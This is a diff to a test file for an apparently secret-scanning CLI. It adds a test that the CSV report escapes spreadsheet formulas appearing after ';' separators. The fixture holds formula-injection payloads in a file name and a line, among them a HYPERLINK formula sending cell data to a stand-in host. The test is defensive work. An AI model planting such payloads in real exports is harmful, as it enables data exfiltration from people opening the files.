@@ -11,7 +11,7 @@ import { csvField } from '../../src/reporters/csv.js';
 import { printable, xmlText } from '../../src/reporters/escape.js';
 import { runCli, runOnEndlessStdin, type CliResult } from '../helpers/cli.js';
 import { ALPHA, githubToken, randomString, stripeKey } from '../helpers/tokens.js';
-import { git, writeTree } from '../helpers/tree.js';
+import { commit, git, makeGitRepo, writeTree } from '../helpers/tree.js';
 
 /*
  * The JUnit, GitLab and CSV reports of one repository with hostile names and content, scanned as a
@@ -457,6 +457,29 @@ describe('the CSV report', () => {
 
   it('of a clean scan is the header alone', () => {
     expect(parseCsvReport(run('clean', 'csv').stdout)).toEqual([]);
+  });
+
+  it('guards a formula after a ";" too, where a spreadsheet with ";" as its list separator starts a cell', async () => {
+    const semicolonPassword = `Xk9q${randomString(ALPHA.alnum, 14, 1706)}`;
+    const after = ` x;=HYPERLINK("https://x.invalid/?"&B2,"click");"@SUM(1);+1`;
+    const semicolons = makeGitRepo({ 'a;=1+1.env': `password = "${semicolonPassword}";${after}\n` });
+    commit(semicolons, 'add');
+    for (const mode of [['.'], ['--history']]) {
+      const result = await runCli(['scan', ...mode, '-f', 'csv', '--no-config'], { cwd: semicolons });
+      expect(result.exitCode, result.stderr).toBe(1);
+      // Read as Excel reads it with ";" as the separator: every ";" starts a cell, a quote only at
+      // a cell's start (the cell's text then starts after it).
+      const cells = result.stdout.split('\r\n').flatMap((line) => line.split(';').slice(1));
+      expect(cells.length).toBeGreaterThan(0);
+      for (const cell of cells) expect(cell.replace(/^"+/, '')).not.toMatch(/^[=+\-@\t\r]/);
+      // Read with commas, the values are as written but for the `'` after each such ";".
+      const [record] = parseCsvReport(result.stdout);
+      expect(record?.path).toBe("a;'=1+1.env");
+      expect(record?.line_text?.startsWith(`password = "${semicolonPassword.slice(0, 4)}**`)).toBe(true);
+      expect(
+        record?.line_text?.endsWith(` x;'=HYPERLINK("https://x.invalid/?"&B2,"click");'"@SUM(1);'+1`),
+      ).toBe(true);
+    }
   });
 });
 
